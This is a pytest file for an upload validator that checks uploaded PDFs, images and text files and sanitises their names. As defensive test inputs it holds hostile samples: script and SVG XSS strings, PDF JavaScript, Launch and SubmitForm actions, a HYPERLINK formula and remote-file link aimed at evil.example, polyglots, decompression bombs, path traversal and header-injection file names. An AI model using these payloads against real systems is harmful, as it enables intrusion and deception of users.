"""What is taken in and what is turned back: a file is what its name says, is one thing, acts on nothing, and is no more
than what is needed to read it."""

from __future__ import annotations

import io
import zlib
from collections.abc import Callable
from random import Random

import pytest

from portal.documents.kinds import LARGEST, Reason, Refused
from portal.documents.looking import looked_at, safe_name
from tests.support.files import a_zip, chunk, exif, jpeg, packed, pdf, png, segment

SCRIPT = b"<script>alert(1)</script>"
JS = b"<< /S /JavaScript /JS (app.alert(1)) >>"

GOOD: dict[str, tuple[str, Callable[[], bytes]]] = {
    "a PDF": ("brev.pdf", pdf),
    "a PDF with a packed page": ("brev.PDF", lambda: pdf(packed(b"BT (Hej) Tj ET"))),
    "a PDF that is a link": ("brev.pdf", lambda: pdf(b"<< /S /URI /URI (https://fjordby.example) >>")),
    "a JPEG": ("billede.jpg", jpeg),
    "a JPEG by its long name": ("billede.JPEG", jpeg),
    "a JPEG with what a telephone adds at its end": ("billede.jpg", lambda: jpeg(tail=b"SEFH\0\0\0\0SEFT")),
    "a PNG": ("billede.png", png),
    "a text": ("note.txt", lambda: "Blåbærgrød".encode()),
    "a text as Windows wrote it": ("note.txt", lambda: "Blåbærgrød".encode("cp1252")),
}


@pytest.mark.parametrize("what", GOOD)
def test_what_people_send_is_taken_in(what: str) -> None:
    name, made = GOOD[what]
    assert looked_at(name, made()).data


BAD: dict[str, tuple[str, bytes, Reason]] = {
    "nothing": ("brev.pdf", b"", "empty"),
    "too much": ("brev.txt", b"a" * (LARGEST + 1), "too_large"),
    "a program": ("brev.exe", b"MZ" + bytes(80), "kind"),
    "a page": ("brev.html", SCRIPT, "kind"),
    "a drawing that is a page": ("brev.svg", b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>", "kind"),
    "a Word document": ("brev.docx", a_zip("word/document.xml"), "kind"),
    "a name without an ending": ("brev", pdf(), "kind"),
    "two endings, the last of a program": ("brev.pdf.exe", pdf(), "kind"),
    "a program by another name": ("brev.pdf", b"MZ" + bytes(80), "not_what_it_says"),
    "a PDF by the name of a picture": ("brev.png", pdf(), "not_what_it_says"),
    "a picture by the name of a PDF": ("brev.pdf", png(), "not_what_it_says"),
    "a picture by the name of a text": ("brev.txt", png(), "not_what_it_says"),
    "a text by the name of a picture": ("brev.jpg", b"Hej", "not_what_it_says"),
    "a text that is none": ("brev.txt", b"\0\1\2\3", "not_what_it_says"),
    "a text that clears the screen": ("brev.txt", b"\x1b[2J", "not_what_it_says"),
    "a PDF after a page": ("brev.pdf", pdf(head=SCRIPT), "not_what_it_says"),
    "a PDF after one byte": ("brev.pdf", pdf(head=b" "), "not_what_it_says"),
    "a PDF before a page": ("brev.pdf", pdf(tail=SCRIPT), "two_in_one"),
    "a PDF before an archive": ("brev.pdf", pdf(tail=a_zip()), "two_in_one"),
    "a PDF with an archive in it that ends with it": (
        "brev.pdf",
        (lambda zipped: pdf(b"<< >>\nstream\n" + zipped[:-2] + b"\x40\0\nendstream"))(a_zip()),
        "two_in_one",
    ),
    "half a PDF": ("brev.pdf", pdf()[:-30], "broken"),
    "a PDF with a script": ("brev.pdf", pdf(JS), "acts"),
    "a PDF with a script spelled otherwise": (
        "brev.pdf",
        pdf(JS.replace(b"/JavaScript", b"/J#61v#61Scr#69pt")),
        "acts",
    ),
    "a PDF that starts a program": ("brev.pdf", pdf(b"<< /S /Launch /F (cmd.exe) >>"), "acts"),
    "a PDF that sends a form": ("brev.pdf", pdf(b"<< /S /SubmitForm /F (https://evil.example) >>"), "acts"),
    "a PDF that opens another": ("brev.pdf", pdf(b"<< /S /GoToR /F (\\\\\\\\evil.example\\\\a) >>"), "acts"),
    "a PDF with a form that acts": ("brev.pdf", pdf(b"<< /AcroForm << /XFA [ (a) 9 0 R ] >> >>"), "acts"),
    "a PDF with a film": ("brev.pdf", pdf(b"<< /Subtype /RichMedia >>"), "acts"),
    "a PDF with a script that is packed": ("brev.pdf", pdf(packed(b"7 0 " + JS, b"/Type /ObjStm")), "acts"),
    "a PDF with a script packed far in": ("brev.pdf", pdf(packed(b" " * 300_000 + JS + b" " * 9, b"/First 4")), "acts"),
    "a PDF with a script in what breaks off": ("brev.pdf", pdf(packed(JS * 40)[:-40] + b"\nendstream"), "acts"),
    "a PDF with files in it": ("brev.pdf", pdf(b"<< /Names << /EmbeddedFiles 5 0 R >> >>"), "files_inside"),
    "a PDF with a lock": ("brev.pdf", pdf(trailer=b"/Encrypt 4 0 R "), "locked"),
    "a PDF packed so that it is not looked into": (
        "brev.pdf",
        pdf(b"<< /Type /ObjStm /Filter [/ASCIIHexDecode /FlateDecode] >>\nstream\n789c>\nendstream"),
        "broken",
    ),
    "a PDF that is a bomb": ("brev.pdf", pdf(*[packed(bytes(70_000_000))] * 2), "too_large"),
    "a PNG before an archive": ("billede.png", png(tail=a_zip()), "two_in_one"),
    "a PNG before a page": ("billede.png", png(tail=SCRIPT), "two_in_one"),
    "a PNG before a byte": ("billede.png", png(tail=b"\0"), "two_in_one"),
    "a PNG that was changed": ("billede.png", png().replace(b"\x80", b"\x81", 1)[:-1] + b"\0", "broken"),
    "a PNG with a length that lies": ("billede.png", png()[:8] + b"\xff\xff\xff\xf0" + png()[12:], "broken"),
    "a PNG without points": ("billede.png", png()[:33] + chunk(b"IEND", b""), "broken"),
    "a PNG with two headers": ("billede.png", png(also=png()[8:33]), "broken"),
    "a PNG that is a bomb": ("billede.png", png(width=60_000, height=60_000), "too_many_dots"),
    "a PNG of no size": ("billede.png", png(width=0), "broken"),
    "a JPEG before an archive": ("billede.jpg", jpeg(tail=a_zip()), "two_in_one"),
    "a JPEG before a page": ("billede.jpg", jpeg(tail=b"\n" + SCRIPT), "two_in_one"),
    "a JPEG before a PDF": ("billede.jpg", jpeg(tail=pdf()), "two_in_one"),
    "a JPEG that is a bomb": ("billede.jpg", jpeg(width=65_000, height=65_000), "too_many_dots"),
    "a JPEG without an end": ("billede.jpg", jpeg()[:-2], "broken"),
    "a JPEG without a size": ("billede.jpg", b"\xff\xd8\xff\xdb\0\x02\xff\xd9", "broken"),
    "a JPEG with a length that lies": ("billede.jpg", b"\xff\xd8\xff\xe0\xff\xff" + jpeg()[4:], "broken"),
}


@pytest.mark.parametrize("what", BAD)
def test_what_harms_or_deceives_is_turned_back_with_the_reason(what: str) -> None:
    name, data, reason = BAD[what]
    with pytest.raises(Refused) as refused:
        looked_at(name, data)
    assert refused.value.reason == reason


def test_a_picture_keeps_nothing_of_where_and_when_but_which_way_is_up() -> None:
    where = b"GPS 55.6761 12.5683"
    kept = looked_at("a.jpg", jpeg(also=exif(6, where) + segment(0xFE, SCRIPT) + segment(0xED, where))).data
    assert where not in kept
    assert SCRIPT not in kept
    assert b"Exif\0\0MM" in kept
    assert kept.startswith(b"\xff\xd8\xff\xe1")
    assert b"Exif" not in looked_at("a.jpg", jpeg(also=exif(1, where))).data
    text = chunk(b"tEXt", b"Comment\0" + SCRIPT) + chunk(b"eXIf", where) + chunk(b"eVIL", SCRIPT)
    kept = looked_at("a.png", png(also=text)).data
    assert kept == png()


def test_a_picture_is_drawn_as_before() -> None:
    """By a decoder nobody here wrote."""
    from PIL import Image

    for name, made in (("a.jpg", jpeg(also=exif(6))), ("a.png", png(also=chunk(b"tEXt", b"a\0b")))):
        with Image.open(io.BytesIO(made)) as before, Image.open(io.BytesIO(looked_at(name, made).data)) as after:
            assert (after.size, after.tobytes()) == (before.size, before.tobytes())
            assert after.getexif().get(0x0112) == before.getexif().get(0x0112)


def test_whatever_is_sent_is_taken_or_turned_back_and_never_anything_else() -> None:
    """Each good file cut and changed at every place, and noise after each beginning."""
    for name, made in GOOD.values():
        whole = made()
        for at in range(len(whole)):
            for data in (whole[:at], whole[:at] + b"\xff" + whole[at + 1 :], whole[:at] + b"\xff\xff" + whole[at:]):
                _tried(name, data)
    for begin, name in ((b"%PDF-1.7\n", "a.pdf"), (b"\xff\xd8\xff", "a.jpg"), (b"\x89PNG\r\n\x1a\n", "a.png")):
        for seed in range(200):
            _tried(name, begin + zlib.compress(seed.to_bytes(2)) + Random(seed).randbytes(200))


def _tried(name: str, data: bytes) -> None:
    try:
        looked_at(name, data)
    except Refused:
        return


def test_what_is_small_and_made_to_be_looked_at_for_ever_is_not() -> None:
    """Many beginnings of something packed cost no more than they hold: the work is bound, as the size is."""
    many = pdf(b"stream\n\x78\x9c" * 200_000)
    assert looked_at("a.pdf", many).kind == "pdf"


@pytest.mark.parametrize(
    ("name", "safe"),
    [
        ("brev.pdf", "brev.pdf"),
        ("Læges ordination – æøå.PDF", "Læges ordination – æøå.pdf"),
        ("../../etc/passwd.pdf", "passwd.pdf"),
        ("C:\\Users\\asta\\brev.pdf", "brev.pdf"),
        ('=HYPERLINK("http://evil.example","x").pdf', "evil.example , x ).pdf"),
        ('=HYPERLINK("a";"b").pdf', "HYPERLINK( a b ).pdf"),
        ("-rf.pdf", "rf.pdf"),
        (".htaccess.pdf", "htaccess.pdf"),
        ("a\r\nSet-Cookie: x=1.pdf", "a Set-Cookie x=1.pdf"),
        ("<img src=x onerror=alert(1)>.pdf", "img src=x onerror=alert(1).pdf"),
        ("fdp.\u202efdp.exe.pdf", "fdp.fdp.exe.pdf"),
        ("con.pdf", "dokument con.pdf"),
        (".pdf", "dokument.pdf"),
        ("  .. .pdf", "dokument.pdf"),
        ("a" * 300 + ".pdf", "a" * 80 + ".pdf"),
        ("{{ 7*7 }}.pdf", "{{ 7 7 }}.pdf"),
    ],
)
def test_a_name_is_no_path_no_formula_no_header_and_reads_as_it_is_written(name: str, safe: str) -> None:
    assert safe_name(name, "pdf") == safe
